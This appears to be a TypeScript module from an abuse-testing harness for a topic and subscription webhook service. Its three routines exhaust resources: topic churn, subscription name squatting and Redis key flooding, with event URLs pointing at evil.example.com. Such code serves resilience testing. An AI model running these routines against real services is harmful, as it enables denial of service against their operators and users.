import type { Attacker } from '../attacker.ts';

const CALLS_AT_A_TIME = 4;
/** Maximum topics of a subscription. */
const TOPICS_EACH = 1000;

/** Makes topics and deletes them. Each topic has metrics of its own. */
export async function churnTopics(attacker: Attacker, signal: AbortSignal): Promise<void> {
  await inParallel(signal, async (lane, n) => {
    const topic = `${attacker.topic}_${lane}_${n}`;
    await attacker.tries('POST', `/topics/${topic}`, event(n));
    await attacker.tries('DELETE', `/topics/${topic}`);
  });
}

/** Subscribes to topics that nobody publishes to, until no name is left for others. */
export async function takeNames(attacker: Attacker, signal: AbortSignal): Promise<void> {
  const callback = await attacker.sink();
  for (let n = 0; !signal.aborted; n++) {
    const topics = Array.from({ length: TOPICS_EACH }, (_, name) => `${attacker.topic}_${n}_${name}`);
    await attacker.tries('POST', '/subscription', { topics, callback, uuid: 'evil' });
  }
}

/** Makes Redis remember as many Idempotency-Keys as the attacker can send, all of the greatest length. */
export async function spendKeys(attacker: Attacker, signal: AbortSignal): Promise<void> {
  await inParallel(signal, async (lane, n) => {
    const key = `${lane}-${n}-`.padEnd(255, 'k');
    await attacker.tries('POST', `/topics/${attacker.topic}`, event(n), { 'idempotency-key': key });
  });
}

async function inParallel(signal: AbortSignal, call: (lane: number, n: number) => Promise<void>) {
  const lane = async (_: unknown, lane: number) => {
    for (let n = 0; !signal.aborted; n++) await call(lane, n);
  };
  await Promise.all(Array.from({ length: CALLS_AT_A_TIME }, lane));
}

const event = (n: number) => ({ type: 'create', url: `https://evil.example.com/${n}` });
